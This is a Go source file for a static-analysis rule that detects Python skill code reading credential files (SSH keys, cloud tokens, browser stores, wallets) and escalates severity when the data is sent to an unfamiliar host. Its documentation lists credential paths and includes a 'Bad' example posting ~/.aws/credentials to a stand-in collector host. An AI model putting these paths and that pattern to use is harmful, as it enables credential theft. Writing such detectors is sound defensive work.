package rules

import (
	"strconv"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/hostfacts"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonCredentialFiles reports Python code that reads credential files.
var PythonCredentialFiles = register(&analyzer.Rule{
	ID:       "SV281",
	Name:     "python-credential-files",
	Title:    "Python reads credential files (SSH keys, cloud credentials, wallets, browser stores)",
	Severity: Medium,
	Category: analyzer.CatCredentialFiles,
	Tags:     []string{"security", "python", "CWE-522", "CWE-200"},
	Inputs:   analyzer.InPython,
	Doc: `Python code opens, copies, archives or queries a file that holds credentials:
` + "`~/.ssh`" + `, ` + "`~/.aws/credentials`" + `, ` + "`~/.config/gh/hosts.yml`" + `, ` + "`~/.netrc`" + `, ` + "`~/.git-credentials`" + `,
` + "`~/.npmrc`" + `, ` + "`~/.docker/config.json`" + `, ` + "`~/.kube/config`" + `, cloud SDK tokens, browser profiles
(` + "`Login Data`" + `, ` + "`Cookies`" + `), crypto wallets, password stores and keychains (the shared list
of credential paths). Paths are reassembled the way the code builds them —
` + "`os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')`" + `, ` + "`Path.home() / '.aws' / 'credentials'`" + `,
variables holding either — and commands such as ` + "`security find-generic-password`" + ` are included.

- **critical** when the same file also sends data over the network: reading secrets and
  a way out is the harvesting pattern;
- **medium** otherwise: a skill rarely needs another tool's credentials.

The read and the send may sit in different modules of the skill: a function of ` + "`collector.py`" + `
returns the file and ` + "`main.py`" + ` posts ` + "`gather()`" + `, or ` + "`main.py`" + ` hands the content to
` + "`uploader.send(payload)`" + `. Imports of the skill's own modules are resolved (` + "`from collector import`" + `,
` + "`import collector`" + `, relative and package imports, methods of imported classes, imported path
constants) and graded as if both halves were in one file; the message names the other module and line.

A project-local ` + "`.env`" + ` file (` + "`open('.env')`" + `, ` + "`load_dotenv()`" + `) is normal configuration and is
reported only when its content flows into a network call to a host that is not a known
API (**critical**); a ` + "`.env`" + ` under the home directory is always reported: **critical** when
its content flows to a stranger, **medium** when no flow from it to a send is found (a shared
workspace ` + "`.env`" + ` is where agents keep the API keys skills read for their own service).

**Fix:** ask the user for the one value the skill needs, or read it from a variable
the user sets for this skill.

Bad:

` + "```python" + `
from pathlib import Path
import requests
creds = (Path.home() / ".aws" / "credentials").read_text()
requests.post("https://collector.example.net", data=creds)
` + "```" + `

Good:

` + "```python" + `
import boto3
s3 = boto3.client("s3")  # the SDK reads credentials itself, they never pass through the skill
` + "```",
	Run: runPythonCredentialFiles,
})

var pyCredReadSuffixes = []string{".read_text", ".read_bytes", ".open", ".exists", ".is_file", ".iterdir", ".glob", ".rglob"}

// pyPathBuilders only compute paths; the access is reported where the path
// is used.
var pyPathBuilders = map[string]bool{"os.path.join": true, "os.path.expanduser": true, "os.path.expandvars": true,
	"pathlib.Path": true, "Path": true, "pathlib.PurePath": true}

// pyCredentialPath matches a credential path in the rendered paths. local
// is true for a project-local .env, which counts only when it is sent.
func pyCredentialPath(paths []string) (label, path string, local, ok bool) {
	for _, text := range paths {
		for _, p := range strings.Split(text, "\n") {
			l, _, _, ok := intel.MatchCredentialPath(p)
			if !ok {
				continue
			}
			local := l == "dotenv file" && !strings.HasPrefix(p, "~") && !strings.HasPrefix(p, "/")
			return l, p, local, true
		}
	}
	return "", "", false, false
}

// pyCredentialAccesses lists calls that access credential files.
func pyCredentialAccesses(p *analyzer.Pass, m *python.Module) []pyCredAccess {
	var out []pyCredAccess
	seen := map[string]bool{}
	for _, c := range m.Calls {
		var paths []string
		switch {
		case pyfacts.FileCalls[c.Name] && !pyPathBuilders[c.Name]:
			if pyfacts.Openish(c.Name) && pyfacts.IsWriteMode(pyfacts.OpenMode(m, c)) {
				continue
			}
			for _, a := range c.Args {
				if a.Keyword == "" || a.Keyword == "file" || a.Keyword == "path" || a.Keyword == "src" {
					paths = append(paths, pyfacts.PathAcross(p, m, a.Start, a.End, 2)...)
				}
			}
		case pyfacts.HasSuffixAny(c.Name, pyCredReadSuffixes...):
			paths = pyfacts.PathAcross(p, m, c.Head, c.Open, 2)
		case pyfacts.SubprocessCalls[c.Name] || pyfacts.ShellStringCalls[c.Name]:
			if a, ok := c.Arg(0, "args"); ok {
				if items, ok := pyfacts.ArgList(m, a); ok {
					var words []string
					for _, it := range items {
						w, _ := m.Fold(it[0], it[1])
						words = append(words, w)
					}
					paths = append(paths, strings.Join(words, " "))
				} else if s, ok := m.Fold(a.Start, a.End); ok {
					paths = append(paths, s)
				}
			}
		default:
			continue
		}
		label, path, local, ok := pyCredentialPath(paths)
		if !ok {
			continue
		}
		if seen[path] {
			continue // one finding per credential path
		}
		seen[path] = true
		out = append(out, pyCredAccess{call: c, label: label, path: path, local: local})
	}
	return out
}

// pyCredSendGrade grades a credential read in a file that also sends data.
// flow is false when no flow from the read to a send of the file was found.
func pyCredSendGrade(p *analyzer.Pass, m *python.Module, read *python.Call, msg, note string) (sev analyzer.Severity, out string, flow bool) {
	hosts := hostfacts.Of(p.Skill)
	foreign := false
	for _, c := range m.Calls {
		if !pyfacts.NetSink(m, c) {
			continue
		}
		host, class := "", intel.HostUnknown
		if u := pyfacts.SinkURL(m, c); u != "" {
			host, class = intel.URLClass(u)
		}
		known := class == intel.HostKnownAPI || class == intel.HostLoopback || host != "" && (hosts.Familiar(host) || p.Config.HostAllowed(host))
		if pyfacts.FlowsFrom(m, c, read) {
			if known {
				return Medium, msg + ", sent to " + pyfacts.HostOr(host) + " (line " + pyfacts.LineOf(m, c.Head) + "), the service the skill uses", true
			}
			return Critical, msg + " and sends it to " + pyfacts.HostOr(host) + " (line " + pyfacts.LineOf(m, c.Head) + ")", true
		}
		foreign = foreign || !known
	}
	if foreign {
		return High, msg + note + "; no flow from the read to the send was found, but a destination is not one the skill is about", false
	}
	return Medium, msg + note + "; no flow from the read to the send was found, and the destinations are services the skill is about", false
}

// pyCredRemoteSends lists the network calls of the skill's other modules
// the read's content reaches: through a function of another module this
// file calls with it (uploader.send(creds)), or from a function of this
// file another module imports and sends the result of.
func pyCredRemoteSends(p *analyzer.Pass, m *python.Module, read *python.Call) []pyfacts.Send {
	var out []pyfacts.Send
	key := "flow:" + strconv.Itoa(read.Open)
	for _, c := range m.Calls {
		for _, s := range pyfacts.RemoteSends(p, m, c) {
			if _, ok := m.Derives(key, s.Arg.Start, s.Arg.End, func(r python.Ref) bool { return r.Call && m.CallOf(r) == read }); ok {
				out = append(out, s)
			}
		}
	}
	return append(out, pyfacts.SentElsewhere(p, m, read)...)
}

// pyCredRemoteGrade grades a read whose content another module sends:
// critical when a destination is a stranger, medium when every one is the
// service the skill is about. ok is false when no such send was found.
func pyCredRemoteGrade(p *analyzer.Pass, sends []pyfacts.Send, msg string) (analyzer.Severity, string, bool) {
	if len(sends) == 0 {
		return Medium, msg, false
	}
	hosts := hostfacts.Of(p.Skill)
	var knownMsg string
	for _, s := range sends {
		host, class := "", intel.HostUnknown
		if s.URL != "" {
			host, class = intel.URLClass(s.URL)
		}
		where := s.Where()
		if s.Via != "" {
			where = s.Via + " in " + where
		}
		if class == intel.HostKnownAPI || class == intel.HostLoopback || host != "" && (hosts.Familiar(host) || p.Config.HostAllowed(host)) {
			if knownMsg == "" {
				knownMsg = msg + ", sent to " + pyfacts.HostOr(host) + " (" + where + "), the service the skill uses"
			}
			continue
		}
		return Critical, msg + " and sends it to " + pyfacts.HostOr(host) + " (" + where + ")", true
	}
	return Medium, knownMsg, true
}

type pyCredAccess struct {
	call  *python.Call
	label string
	path  string
	local bool // project-local .env
}

func runPythonCredentialFiles(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	acc := pyCredentialAccesses(p, m)
	if len(acc) == 0 {
		return nil
	}
	sinkNote := pyfacts.SinkNote(m)
	for _, a := range acc {
		start, end := m.Span(a.call)
		if a.local {
			// the project's own .env: reported only when its content is sent
			// somewhere other than a known API
			sent := false
			for _, c := range m.Calls {
				if !pyfacts.NetSink(m, c) || !pyfacts.FlowsFrom(m, c, a.call) {
					continue
				}
				host, class := "", intel.HostUnknown
				if u := pyfacts.SinkURL(m, c); u != "" {
					host, class = intel.URLClass(u)
				}
				if class == intel.HostKnownAPI || class == intel.HostLoopback || p.Config.HostAllowed(host) {
					continue
				}
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Critical,
					Message: "reads the project's " + pyfacts.ClipStr(a.path, 40) + " and sends it to " + pyfacts.HostOr(host) + " (line " + pyfacts.LineOf(m, c.Head) + ")"})
				sent = true
				break
			}
			if !sent {
				// sent by another module of the skill
				for _, s := range pyCredRemoteSends(p, m, a.call) {
					host, class := "", intel.HostUnknown
					if s.URL != "" {
						host, class = intel.URLClass(s.URL)
					}
					if class == intel.HostKnownAPI || class == intel.HostLoopback || p.Config.HostAllowed(host) {
						continue
					}
					pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Critical,
						Message: "reads the project's " + pyfacts.ClipStr(a.path, 40) + " and sends it to " + pyfacts.HostOr(host) + " (" + s.Where() + ")"})
					break
				}
			}
			continue
		}
		msg := "reads " + a.label + " (" + pyfacts.ClipStr(a.path, 60) + ")"
		sev, flow := Medium, false
		local := msg
		if note := sinkNote(); note != "" {
			// A read and a send in one file are two capabilities; the
			// chain is the read's data reaching the send. Where the data
			// goes decides: a stranger is exfiltration, the service the
			// skill is for (or a known API) is use.
			sev, msg, flow = pyCredSendGrade(p, m, a.call, msg, note)
		}
		if !flow {
			// the same chain split across the skill's modules
			if rs, rm, ok := pyCredRemoteGrade(p, pyCredRemoteSends(p, m, a.call), local); ok {
				sev, msg = rs, rm
			}
		}
		if !flow && sev == High && a.label == "dotenv file" {
			// A .env file is where a skill's own settings and API keys
			// live: reading it beside an unresolved request, with no
			// flow between them, is configuration, not a stolen key (a
			// flow to a stranger stays critical above)
			sev = Medium
			msg += " (a .env file: where a skill keeps its own settings and keys)"
		}
		pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: sev, Message: msg})
	}
	return nil
}
